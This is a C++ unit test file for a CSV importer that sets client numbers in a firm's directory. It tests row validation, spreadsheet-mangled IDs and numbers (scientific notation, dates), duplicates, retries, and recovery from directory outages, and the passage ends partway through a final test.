#include <algorithm>
#include <set>

#include "absl/strings/str_format.h"
#include "common/csv/csv.h"
#include "google/protobuf/util/time_util.h"
#include "services/import/api/job_convert.h"
#include "tests/support/callers.h"
#include "tests/support/status_matchers.h"
#include "tests/unit/import/importer_fixture.h"

namespace clientbook::importer {
namespace {

using ::clientbook::testing::IsOk;
using ::clientbook::testing::StatusIs;
using ::testing::AllOf;
using ::testing::Each;
using ::testing::ElementsAre;
using ::testing::Field;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::Property;

v1::ImportError::Code CodeOf(const ErrorRecord& e) { return e.code(); }

// `id` as a spreadsheet shows it in scientific notation with `decimals`
// digits after its `point`: RoundedTo(1000000001002, 11, ',') is
// "1,00000000100E+12".
std::string RoundedTo(uint64_t id, int decimals, char point) {
  std::string shown = absl::StrFormat("%.*E", decimals, static_cast<double>(id));
  std::replace(shown.begin(), shown.end(), '.', point);
  return shown;
}

TEST_F(ImporterTest, AGoodFileSetsEveryNumberInOneBatch) {
  JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1"),
                               absl::StrCat(bianchi_, ",Bianchi SpA,B-1")}));
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED) << job.failure_reason();
  EXPECT_EQ(job.applied_rows(), 2);
  EXPECT_EQ(Number(rossi_), "R-1");
  EXPECT_EQ(Number(bianchi_), "B-1");
  EXPECT_EQ(directory_.apply_calls, 1);
}

TEST_F(ImporterTest, MixedFileAppliesTheGoodRowsAndLogsEveryBadOne) {
  JobRecord job = Import(File({
      absl::StrCat(rossi_, ",Rossi SRL,R-1"),            // row 2: good
      absl::StrCat(bianchi_, ",Bianchi SpA WRONG,B-1"),  // row 3: name changed
      ",Nobody,X-1",                                     // row 4: no company id
      "9999,Ghost,G-1",  // row 5: not a client of the firm
      absl::StrCat(verdi_, ",Società Verdi,") + std::string(101, 'x'),  // row 6: too long
      absl::StrCat(bianchi_, ",\"bad\"quote,B-2"),  // row 7: malformed
      absl::StrCat(rossi_, ",Rossi SRL"),           // row 8: wrong column count
  }));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  EXPECT_EQ(job.total_rows(), 7);
  EXPECT_EQ(job.rejected_rows(), 6);
  EXPECT_EQ(job.applied_rows(), 1);
  EXPECT_EQ(Number(rossi_), "R-1");
  EXPECT_EQ(Number(bianchi_), "");
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 6u);
  EXPECT_EQ(errors[0].row(), 3);
  EXPECT_EQ(CodeOf(errors[0]), v1::ImportError::DISPLAY_NAME_CHANGED);
  EXPECT_EQ(errors[0].column(), "Display Name");
  EXPECT_EQ(CodeOf(errors[1]), v1::ImportError::MISSING_COMPANY_ID);
  EXPECT_EQ(CodeOf(errors[2]), v1::ImportError::UNKNOWN_COMPANY_ID);
  EXPECT_EQ(CodeOf(errors[3]), v1::ImportError::CLIENT_NUMBER_TOO_LONG);
  EXPECT_EQ(CodeOf(errors[4]), v1::ImportError::MALFORMED_ROW);
  EXPECT_EQ(CodeOf(errors[5]), v1::ImportError::WRONG_COLUMN_COUNT);
  EXPECT_THAT(errors[2].original(), ElementsAre("9999", "Ghost", "G-1"));
}

// A file saved on a Mac carries "à" as "a" and a combining accent, and a
// cell may keep a blank around the name: neither renames the client. Case
// does.
TEST_F(ImporterTest, ADisplayNameIsTheSameTextHoweverItsAccentsAreEncoded) {
  JobRecord job = Import(File({absl::StrCat(verdi_, ",Societa\u0300 Verdi,V-9"),
                               absl::StrCat(rossi_, ", Rossi SRL ,R-1"),
                               absl::StrCat(bianchi_, ",BIANCHI SPA,B-1")}));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  EXPECT_EQ(Number(verdi_), "V-9");
  EXPECT_EQ(Number(rossi_), "R-1");
  EXPECT_EQ(Number(bianchi_), "");
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 1u);
  EXPECT_EQ(errors[0].row(), 4);
  EXPECT_EQ(CodeOf(errors[0]), v1::ImportError::DISPLAY_NAME_CHANGED);
}

// Excel's General format shows a company ID of 12 digits or more (cells past
// the first) as 1E+12 and saves it so: the row says what happened.
TEST_F(ImporterTest, AnIdASpreadsheetRoundedIsExplained) {
  JobRecord job =
      Import(File({"1E+12,Rossi SRL,R-1", "\"1,00000000012E+12\",Rossi SRL,R-1",
                   "1E12,Rossi SRL,R-1", absl::StrCat(rossi_, ",Rossi SRL,R-1")}));
  EXPECT_EQ(Number(rossi_), "R-1");
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 3u);
  for (int i : {0, 1}) {
    EXPECT_EQ(CodeOf(errors[i]), v1::ImportError::UNKNOWN_COMPANY_ID);
    EXPECT_THAT(errors[i].message(), HasSubstr("scientific notation")) << i;
  }
  EXPECT_THAT(errors[2].message(), Not(HasSubstr("scientific")));
}

// A cell past the first: every id is 13 digits, one Excel's General format
// shows and saves rounded (1000000001002 as "1E+12").
class ImporterInCellTest : public ImporterTest {
 protected:
  ImporterInCellTest() : ImporterTest(names::Cell{1}) {}
};

// The full id is gone from the row, but its display name and the digits
// left find the client: the round trip through Excel works. The firm's
// list is read once for all such rows, and never for a file without one.
TEST_F(ImporterInCellTest, ARoundedIdIsTheClientWithTheRowsNameItCouldBe) {
  ASSERT_GT(rossi_, 1'000'000'000'000u);
  ASSERT_THAT(domain_->clients.SetClientStatus(testing::As("alice"),
                                               names::ClientName{firm_, verdi_},
                                               v1::ClientStatus::INACTIVE),
              IsOk());
  JobRecord job =
      Import(File({"1E+12,Rossi SRL,R-1",
                   absl::StrCat("\"", RoundedTo(bianchi_, 11, ','), "\",Bianchi SpA,B-1"),
                   "1e+012,Societa\u0300 Verdi,V-2"}));
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED) << job.failure_reason();
  EXPECT_EQ(job.applied_rows(), 3);
  EXPECT_EQ(Number(rossi_), "R-1");
  EXPECT_EQ(Number(bianchi_), "B-1");
  EXPECT_EQ(Number(verdi_), "V-2");
  EXPECT_EQ(directory_.page_sizes.size(), 1u);

  directory_.page_sizes.clear();
  EXPECT_EQ(Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-2")})).state(),
            v1::ImportJob::SUCCEEDED);
  EXPECT_THAT(directory_.page_sizes, ::testing::IsEmpty());
}

// Two clients of one name (allowed as different companies) that the
// rounded id could both be: the row is refused naming both, nothing
// guessed. With the digits of one of them, it is that one.
TEST_F(ImporterInCellTest, ARoundedIdThatCouldBeSeveralClientsIsRefused) {
  const uint64_t other_rossi = AddClient("Rossi SRL", "", /*allow_duplicate_name=*/true);
  JobRecord job = Import(File({"1E+12,Rossi SRL,R-1"}));
  EXPECT_EQ(job.state(), v1::ImportJob::FAILED);
  EXPECT_EQ(Number(rossi_), "");
  EXPECT_EQ(Number(other_rossi), "");
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 1u);
  EXPECT_EQ(CodeOf(errors[0]), v1::ImportError::UNKNOWN_COMPANY_ID);
  EXPECT_THAT(errors[0].message(),
              AllOf(HasSubstr("2 clients"), HasSubstr(absl::StrCat(rossi_)),
                    HasSubstr(absl::StrCat(other_rossi))));

  job = Import(File({absl::StrCat(RoundedTo(other_rossi, 12, '.'), ",Rossi SRL,R-1")}));
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED) << job.failure_reason();
  EXPECT_EQ(Number(other_rossi), "R-1");
  EXPECT_EQ(Number(rossi_), "");
}

// The firm's list read for a rounded id is the directory's to refuse as
// any read: busy, the job comes back when told; down, it fails having
// applied nothing, and the same request id resumes it.
TEST_F(ImporterInCellTest,
       ARoundedIdLookupWaitsForABusyDirectoryAndResumesAfterAnOutage) {
  const std::string csv = File({"1E+12,Rossi SRL,R-1"});
  directory_.busy = true;
  JobRecord job = Import(csv, "rounded-1");
  EXPECT_EQ(GetJob(job).state(), v1::ImportJob::VALIDATING);
  ASSERT_EQ(scheduler_.put_off.size(), 1u);
  directory_.busy = false;
  directory_.down = true;
  RunPutOff();
  JobRecord failed = *real_store_->GetJob({firm_, job.job_id()}).value();
  EXPECT_EQ(failed.state(), v1::ImportJob::FAILED);
  EXPECT_THAT(failed.failure_reason(), HasSubstr("nothing was applied"));
  EXPECT_EQ(Number(rossi_), "");

  directory_.down = false;
  JobRecord resumed = Import(csv, "rounded-1");
  EXPECT_EQ(resumed.job_id(), job.job_id());
  EXPECT_EQ(resumed.state(), v1::ImportJob::SUCCEEDED) << resumed.failure_reason();
  EXPECT_EQ(Number(rossi_), "R-1");
}

// A firm may hold any number of clients of one name: a refusal counts them
// and names the first few, and rows showing the same look them up once.
TEST_F(ImporterInCellTest, ARoundedIdThatCouldBeManyClientsCountsThem) {
  for (int i = 0; i < 5; ++i) AddClient("Rossi SRL", "", /*allow_duplicate_name=*/true);
  JobRecord job = Import(File({"1E+12,Rossi SRL,R-1", "1E+12,Rossi SRL,R-2"}));
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 2u);
  for (const ErrorRecord& e : errors) {
    EXPECT_THAT(e.message(), AllOf(HasSubstr("6 clients"),
                                   HasSubstr(absl::StrCat(rossi_)), HasSubstr(", …)")));
  }
  EXPECT_EQ(directory_.page_sizes.size(), 1u);
}

// No client of that name, or none whose id rounds to what the row shows,
// or the same company in another row: refused as such.
TEST_F(ImporterInCellTest, ARoundedIdFoundNowhereOrTwiceIsRefused) {
  JobRecord job =
      Import(File({"1E+12,Nobody SRL,N-1", "2E+12,Rossi SRL,R-1", "1E+12,Bianchi SpA,B-1",
                   absl::StrCat(bianchi_, ",Bianchi SpA,B-2"),
                   absl::StrCat(verdi_, ",Società Verdi,V-2")}));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  EXPECT_EQ(Number(verdi_), "V-2");
  EXPECT_EQ(Number(bianchi_), "");
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 4u);
  EXPECT_THAT(errors[0].message(),
              HasSubstr("no client of this firm named 'Nobody SRL'"));
  EXPECT_THAT(errors[1].message(), HasSubstr("no client of this firm named 'Rossi SRL'"));
  EXPECT_EQ(CodeOf(errors[2]), v1::ImportError::DUPLICATE_IN_FILE);
  EXPECT_EQ(CodeOf(errors[3]), v1::ImportError::DUPLICATE_IN_FILE);
}

// An export opened in Excel comes back with its numbers read as numbers:
// "00042" as "42", "3.20" as "3.2", "123456789012" as "1,23457E+11". Untouched, they
// leave the numbers as they are; a number really changed is written.
TEST_F(ImporterTest, ANumberASpreadsheetReadAsANumberIsLeftAsItIs) {
  const uint64_t zeros = AddClient("Zeri SRL", "00042");
  const uint64_t long_number = AddClient("Lunghi SRL", "123456789012");
  const uint64_t decimal = AddClient("Punti SRL", "3.20");
  JobRecord job = Import(File({absl::StrCat(zeros, ",Zeri SRL,42"),
                               absl::StrCat(long_number, ",Lunghi SRL,\"1,23457E+11\""),
                               absl::StrCat(decimal, ",Punti SRL,3.2"),
                               absl::StrCat(verdi_, ",Società Verdi,2")}));
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED) << job.failure_reason();
  EXPECT_EQ(job.unchanged_rows(), 3);
  EXPECT_EQ(Number(decimal), "3.20");
  EXPECT_EQ(job.applied_rows(), 1);
  EXPECT_EQ(Number(zeros), "00042");
  EXPECT_EQ(Number(long_number), "123456789012");
  EXPECT_EQ(Number(verdi_), "2");
}

// Two clients whose numbers a spreadsheet makes alike ("0042" and "042"
// both come back "42") are no repeat in the file: each row stands for its
// client's own number, so both are unchanged. A row setting "42" for a third
// client is no repeat of them either (the directory holds "42" apart from
// "0042"), while two rows setting one new number still are.
TEST_F(ImporterTest, NumbersASpreadsheetMadeAlikeAreNoRepeatInTheFile) {
  const uint64_t two_zeros = AddClient("Zeri SRL", "0042");
  const uint64_t one_zero = AddClient("Zero SRL", "042");
  const uint64_t twin = AddClient("Gemelli SRL", "");
  JobRecord job = Import(File({absl::StrCat(two_zeros, ",Zeri SRL,42"),
                               absl::StrCat(one_zero, ",Zero SRL,42"),
                               absl::StrCat(verdi_, ",Società Verdi,42")}));
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED) << job.failure_reason();
  EXPECT_THAT(Errors(job), ::testing::IsEmpty());
  EXPECT_EQ(job.unchanged_rows(), 2);
  EXPECT_EQ(job.applied_rows(), 1);
  EXPECT_EQ(Number(two_zeros), "0042");
  EXPECT_EQ(Number(one_zero), "042");
  EXPECT_EQ(Number(verdi_), "42");

  job = Import(
      File({absl::StrCat(twin, ",Gemelli SRL,7"), absl::StrCat(rossi_, ",Rossi SRL,7"),
            absl::StrCat(two_zeros, ",Zeri SRL,42")}));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 2u);
  for (const ErrorRecord& e : errors)
    EXPECT_EQ(CodeOf(e), v1::ImportError::DUPLICATE_IN_FILE);
  EXPECT_EQ(job.unchanged_rows(), 1);
}

// Digits joined by a dash come back as the date Excel read them as: the
// number kept. A new number that reads as such a date, or as a number
// Excel rounded, was typed into a column not formatted as text: refused,
// saying so, rather than stored as "12-Mar".
TEST_F(ImporterTest, ANumberASpreadsheetMadeADateIsKeptAndANewOneRefused) {
  const uint64_t dated = AddClient("Date SRL", "10-2345");
  JobRecord job = Import(File({absl::StrCat(dated, ",Date SRL,Oct-45"),
                               absl::StrCat(rossi_, ",Rossi SRL,12-Mar"),
                               absl::StrCat(bianchi_, ",Bianchi SpA,1.23457E+11")}));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  EXPECT_EQ(Number(dated), "10-2345");
  EXPECT_EQ(Number(rossi_), "");
  EXPECT_EQ(Number(bianchi_), "");
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_EQ(CodeOf(errors[0]), v1::ImportError::INVALID_CLIENT_NUMBER);
  EXPECT_THAT(errors[0].message(), HasSubstr("a date"));
  EXPECT_THAT(errors[1].message(), HasSubstr("scientific notation"));
}

TEST_F(ImporterTest, OneRowCanCarrySeveralProblems) {
  JobRecord job = Import(
      File({",Nobody," + std::string(101, 'x'), absl::StrCat(rossi_, ",Rossi SRL,R-1")}));
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_EQ(errors[0].row(), 2);
  EXPECT_EQ(errors[1].row(), 2);
  EXPECT_EQ(job.rejected_rows(), 1);
}

TEST_F(ImporterTest, AHundredCharacterNumberIsFine) {
  JobRecord job =
      Import(File({absl::StrCat(rossi_, ",Rossi SRL,") + std::string(100, 'x')}));
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED);
}

TEST_F(ImporterTest, AnEmptyNumberLeavesTheClientsNumberAsItIs) {
  JobRecord job = Import(File(
      {absl::StrCat(verdi_, ",Società Verdi,"), absl::StrCat(rossi_, ",Rossi SRL,R-1")}));
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED);
  EXPECT_EQ(job.unchanged_rows(), 1);
  EXPECT_EQ(job.applied_rows(), 1);
  EXPECT_EQ(Number(verdi_), "V-1");
}

// Case and how an accent is encoded do not make two numbers: "É" as one
// character and as "E" with a combining accent (a file saved on a Mac).
TEST_F(ImporterTest, ADuplicateNumberInTheFileRejectsBothRows) {
  for (const auto& [one, other] :
       {std::pair("D-1", "d-1"), std::pair("\u00C9-1", "e\u0301-1"),
        std::pair("\uFF24-\uFF11", "d-\u200B1")}) {
    JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,", one),
                                 absl::StrCat(bianchi_, ",Bianchi SpA,", other)}));
    EXPECT_EQ(job.state(), v1::ImportJob::FAILED);
    EXPECT_THAT(Errors(job), ElementsAre(Property(&ErrorRecord::row, 2),
                                         Property(&ErrorRecord::row, 3)));
    for (const ErrorRecord& e : Errors(job))
      EXPECT_EQ(CodeOf(e), v1::ImportError::DUPLICATE_IN_FILE);
    EXPECT_EQ(Number(rossi_), "");
  }
}

// The directory's rule for a number, reported on its row: one line of
// something visible.
TEST_F(ImporterTest, ANumberWithAControlCharacterOrNothingVisibleIsInvalid) {
  JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,\"R\n1\""),
                               absl::StrCat(bianchi_, ",Bianchi SpA,\u200B"),
                               absl::StrCat(verdi_, ",Società Verdi,V-2")}));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 2u);
  for (const ErrorRecord& e : errors) {
    EXPECT_EQ(CodeOf(e), v1::ImportError::INVALID_CLIENT_NUMBER);
    EXPECT_EQ(e.column(), "Client Number");
  }
  EXPECT_THAT(errors[0].message(), HasSubstr("control character (U+000A)"));
  EXPECT_THAT(errors[1].message(), HasSubstr("no visible character"));
  EXPECT_EQ(Number(verdi_), "V-2");
}

TEST_F(ImporterTest, ACompanyIdThatIsNotANumberIsUnknown) {
  JobRecord job = Import(File({"abc,Rossi SRL,R-1", "0,Rossi SRL,R-2",
                               absl::StrCat(bianchi_, ",Bianchi SpA,B-1")}));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 2u);
  for (const ErrorRecord& e : errors) {
    EXPECT_EQ(CodeOf(e), v1::ImportError::UNKNOWN_COMPANY_ID);
    EXPECT_EQ(e.column(), "Company ID");
  }
  EXPECT_THAT(errors[0].message(), HasSubstr("'abc' is not a company ID"));
  EXPECT_EQ(Number(rossi_), "");
  EXPECT_EQ(Number(bianchi_), "B-1");
}

TEST_F(ImporterTest, TheSameCompanyInTwoRowsRejectsBoth) {
  JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1"),
                               absl::StrCat(bianchi_, ",Bianchi SpA,B-1"),
                               absl::StrCat(rossi_, ",Rossi SRL,R-2")}));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_EQ(errors[0].row(), 2);
  EXPECT_EQ(errors[1].row(), 4);
  for (const ErrorRecord& e : errors) {
    EXPECT_EQ(CodeOf(e), v1::ImportError::DUPLICATE_IN_FILE);
    EXPECT_EQ(e.column(), "Company ID");
  }
  EXPECT_THAT(errors[0].message(), HasSubstr("also in row 4"));
  EXPECT_EQ(Number(rossi_), "") << "neither of the two numbers is applied";
  EXPECT_EQ(Number(bianchi_), "B-1");
}

TEST_F(ImporterTest, ANumberHeldByAClientTheFileLeavesAloneIsTaken) {
  JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,v-1"),
                               absl::StrCat(bianchi_, ",Bianchi SpA,B-1")}));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  ASSERT_EQ(Errors(job).size(), 1u);
  EXPECT_EQ(CodeOf(Errors(job)[0]), v1::ImportError::CLIENT_NUMBER_TAKEN);
  EXPECT_THAT(Errors(job)[0].message(), HasSubstr("Società Verdi"));
}

TEST_F(ImporterTest, ANumberMayMoveToAnotherClientInTheSameFile) {
  JobRecord job = Import(File({absl::StrCat(verdi_, ",Società Verdi,V-2"),
                               absl::StrCat(rossi_, ",Rossi SRL,V-1")}));
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED);
  EXPECT_EQ(Number(rossi_), "V-1");
  EXPECT_EQ(Number(verdi_), "V-2");
}

TEST_F(ImporterTest, WhenTheRowFreeingANumberIsRejectedTheTakerIsToo) {
  // Row 2 would free V-1 but its name is wrong; then row 3 collides.
  JobRecord job = Import(File({absl::StrCat(verdi_, ",Verdi WRONG,V-2"),
                               absl::StrCat(rossi_, ",Rossi SRL,V-1")}));
  EXPECT_EQ(job.state(), v1::ImportJob::FAILED);
  EXPECT_EQ(CodeOf(Errors(job)[0]), v1::ImportError::DISPLAY_NAME_CHANGED);
  EXPECT_EQ(CodeOf(Errors(job)[1]), v1::ImportError::CLIENT_NUMBER_TAKEN);
  EXPECT_EQ(Number(verdi_), "V-1");
}

TEST_F(ImporterTest, TheSameRequestIdReturnsTheSameJobWithoutRunningItAgain) {
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1")});
  JobRecord first = Import(csv, "upload-1");
  JobRecord again = Import(csv, "upload-1");
  EXPECT_EQ(first.job_id(), again.job_id());
  EXPECT_EQ(directory_.apply_calls, 1);
  EXPECT_EQ(importer_->List(testing::As("alice"), firm_, {})->items.size(), 1u);
}

TEST_F(ImporterTest, ADirectoryOutageFailsTheJobAndTheSameRequestIdResumesIt) {
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1")});
  auto started = importer_->Start(testing::As("alice"), firm_, csv, "", "upload-2");
  ASSERT_THAT(started, IsOk());
  directory_.down = true;
  RunScheduled();
  JobRecord failed = *real_store_->GetJob({firm_, started->job_id()}).value();
  EXPECT_EQ(failed.state(), v1::ImportJob::FAILED);
  EXPECT_TRUE(failed.retryable());
  EXPECT_THAT(failed.failure_reason(), HasSubstr("same request_id"));
  EXPECT_EQ(Number(rossi_), "");

  directory_.down = false;
  JobRecord resumed = Import(csv, "upload-2");
  EXPECT_EQ(resumed.job_id(), started->job_id());
  EXPECT_EQ(resumed.state(), v1::ImportJob::SUCCEEDED);
  EXPECT_EQ(Number(rossi_), "R-1");
}

// A directory that turns calls away as busy (the firm over its share or its
// rate limit, another large write under way) says when to come back: the
// job keeps its state and comes back then, instead of failing or holding
// the worker that runs other firms' jobs. Its waits grow, so a validation,
// which needs two calls in a row, gets through a rate limit whose every
// refill it would otherwise spend on the first.
TEST_F(ImporterTest, ABusyDirectoryPutsTheJobOffUntilItAsksNotFailingIt) {
  directory_.calls_per_second = 1;  // the firm's other calls used the bucket up
  const absl::Time turned_away = clock_.Now();
  JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}), "u-busy");
  ASSERT_EQ(scheduler_.put_off.size(), 1u);
  // Its reader sees why it waits, and since when.
  EXPECT_EQ(ToProto(job).directory_busy_since(),
            google::protobuf::util::TimeUtil::MicrosecondsToTimestamp(
                absl::ToUnixMicros(turned_away)));
  EXPECT_EQ(scheduler_.put_off[0].first.job_id, job.job_id());
  EXPECT_EQ(scheduler_.put_off[0].second, absl::Seconds(1));  // as the directory asked
  std::set<v1::ImportJob::State> states_while_put_off;
  for (int run = 0; run < 10 && !scheduler_.put_off.empty(); ++run) {
    states_while_put_off.insert(GetJob(job).state());
    RunPutOff();
  }
  job = GetJob(job);
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED) << job.failure_reason();
  EXPECT_FALSE(ToProto(job).has_directory_busy_since());
  EXPECT_EQ(Number(rossi_), "R-1");
  EXPECT_THAT(states_while_put_off,
              ::testing::ElementsAre(v1::ImportJob::VALIDATING, v1::ImportJob::APPLYING));
  EXPECT_EQ(directory_.apply_calls, 1);
  EXPECT_EQ(waited, absl::ZeroDuration()) << "the worker thread is not held";
}

// Patience ends: a job turned away for 10 minutes fails, and its retry
// starts the wait over.
TEST_F(ImporterTest, AJobTurnedAwayAsBusyFor10MinutesFailsAndItsRetryResumes) {
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1")});
  directory_.busy = true;
  const absl::Time start = clock_.Now();
  JobRecord job = Import(csv, "u-busy");
  std::vector<absl::Duration> waits;
  while (!scheduler_.put_off.empty() && clock_.Now() - start < absl::Minutes(11)) {
    ASSERT_EQ(GetJob(job).state(), v1::ImportJob::VALIDATING);
    waits.push_back(scheduler_.put_off[0].second);
    RunPutOff();
  }
  JobRecord failed = GetJob(job);
  EXPECT_EQ(failed.state(), v1::ImportJob::FAILED);
  EXPECT_TRUE(failed.retryable());
  EXPECT_THAT(failed.failure_reason(), HasSubstr("busy for 10 minutes"));
  EXPECT_THAT(failed.failure_reason(), HasSubstr("nothing was applied"));
  EXPECT_GE(clock_.Now() - start, absl::Minutes(10));
  EXPECT_LT(clock_.Now() - start, absl::Minutes(10) + absl::Seconds(30));
  // From what the directory asked, growing to a wait of 30 s at most.
  EXPECT_EQ(waits.front(), InMemoryDirectoryPort::kBusyDelay);
  EXPECT_EQ(waits.back(), absl::Seconds(30));
  EXPECT_TRUE(std::is_sorted(waits.begin(), waits.end()));
  EXPECT_LT(waits.size(), 40u);

  directory_.busy = false;
  EXPECT_EQ(Import(csv, "u-busy").state(), v1::ImportJob::SUCCEEDED);
  EXPECT_EQ(Number(rossi_), "R-1");
}

// A job's rows are read by its validation alone: once it has ended for
// good they go (90 days of them were kept), its error log stays; a failure
// a retry resumes keeps them for that retry.
TEST_F(ImporterTest, AJobEndedForGoodKeepsItsErrorsNotItsRows) {
  JobRecord done = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1"), "0,Nobody,N-1"}));
  ASSERT_EQ(done.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  EXPECT_THAT(real_store_->GetRows({firm_, done.job_id()}),
              ::clientbook::testing::IsOkAndHolds(::testing::IsEmpty()));
  EXPECT_EQ(Errors(done).size(), 1u);

  JobRecord failed = testing::ValueOrFail(
      importer_->Start(testing::As("alice"), firm_,
                       File({absl::StrCat(bianchi_, ",Bianchi SpA,B-1")}), "", "u-down"));
  directory_.down = true;
  RunScheduled();
  failed = *real_store_->GetJob({firm_, failed.job_id()}).value();
  ASSERT_EQ(failed.state(), v1::ImportJob::FAILED);
  ASSERT_TRUE(failed.retryable());
  EXPECT_THAT(real_store_->GetRows({firm_, failed.job_id()}),
              ::clientbook::testing::IsOkAndHolds(::testing::SizeIs(1)));
}

TEST_F(ImporterTest, AJobKilledAfterItsBatchResumesWithoutApplyingTwice) {
  auto started = importer_->Start(testing::As("alice"), firm_,
                                  File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}), "", "");
  ASSERT_THAT(started, IsOk());
  store_->crash_before_final_write = true;
  RunScheduled();
  EXPECT_EQ(directory_.apply_calls, 1);
  EXPECT_EQ(real_store_->GetJob({firm_, started->job_id()}).value()->state(),
            v1::ImportJob::APPLYING);

  // A new process over the same storage.
  store_->crash_before_final_write = false;
  Importer restarted(*store_, clock_, directory_, scheduler_);
  ASSERT_THAT(restarted.ResumeUnfinished(), IsOk());
  ASSERT_EQ(scheduler_.queue.size(), 1u);
  ASSERT_THAT(restarted.RunJob(scheduler_.queue[0]), IsOk());
  JobRecord job = *restarted.Get(testing::As("alice"), {firm_, started->job_id()});
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED);
  EXPECT_EQ(directory_.apply_calls, 1);
  EXPECT_EQ(Number(rossi_), "R-1");
  // The resend after the restart went with the starter's credentials, kept in
  // the job while it ran and dropped once it ended.
  EXPECT_THAT(
      directory_.apply_credentials,
      ::testing::Contains(std::pair<std::string, std::string>("x-user-id", "alice")));
  EXPECT_EQ(job.caller_credentials_size(), 0);
}

// A token that expired while the job waited (a long outage, a restart) is
// refused before the directory reads the batch: whether an earlier send
// landed is unknown, so the job says so, and a retry with fresh credentials
// resolves it under the same request id.
TEST_F(ImporterTest, RefusedCredentialsAreNotCalledNothingAppliedAndARetryResolvesIt) {
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1")});
  directory_.expired_credentials = {"alice"};
  JobRecord failed = Import(csv, "u-expired");
  EXPECT_EQ(failed.state(), v1::ImportJob::FAILED);
  EXPECT_TRUE(failed.retryable());
  EXPECT_THAT(failed.failure_reason(), Not(HasSubstr("nothing was applied")));
  EXPECT_THAT(failed.failure_reason(), HasSubstr("may or may not"));
  EXPECT_EQ(waited, absl::ZeroDuration()) << "waiting does not renew a token";
  EXPECT_EQ(failed.caller_credentials_size(), 0);

  directory_.expired_credentials.clear();
  JobRecord resolved = Import(csv, "u-expired");
  EXPECT_EQ(resolved.job_id(), failed.job_id());
  EXPECT_EQ(resolved.state(), v1::ImportJob::SUCCEEDED) << resolved.failure_reason();
  EXPECT_EQ(Number(rossi_), "R-1");
}

TEST_F(ImporterTest, AClientEditedBetweenCheckAndWriteFailsRetryablyAndResumes) {
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1")});
  // Someone edits the client after the job read its etag, before it writes.
  directory_.before_apply = [&] { EditClient(rossi_); };
  JobRecord failed = Import(csv, "u-3");
  EXPECT_EQ(failed.state(), v1::ImportJob::FAILED);
  EXPECT_TRUE(failed.retryable());
  EXPECT_THAT(failed.failure_reason(), HasSubstr("changed"));
  EXPECT_EQ(Number(rossi_), "");

  directory_.before_apply = nullptr;
  JobRecord resumed = Import(csv, "u-3");
  EXPECT_EQ(resumed.job_id(), failed.job_id());
  EXPECT_EQ(resumed.state(), v1::ImportJob::SUCCEEDED);
  EXPECT_EQ(Number(rossi_), "R-1");
}

// Import follows no feed: it keeps no client's state beyond the job. A
// client deleted after the job checked it makes the directory refuse the
// batch (all or nothing): the job ends FAILED saying so, nothing of it
// applied, and the file uploaded again rejects that row and applies the rest.
TEST_F(ImporterTest,
       AClientDeletedWhileTheJobRunsFailsItsBatchAndAnUploadAgainAppliesTheRest) {
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1"),
                                absl::StrCat(bianchi_, ",Bianchi SpA,B-1")});
  directory_.before_apply = [&] {
    EXPECT_THAT(domain_->clients.DeleteClient(testing::As("alice"),
                                              names::ClientName{firm_, rossi_}),
                IsOk());
  };
  JobRecord failed = Import(csv, "first-upload");
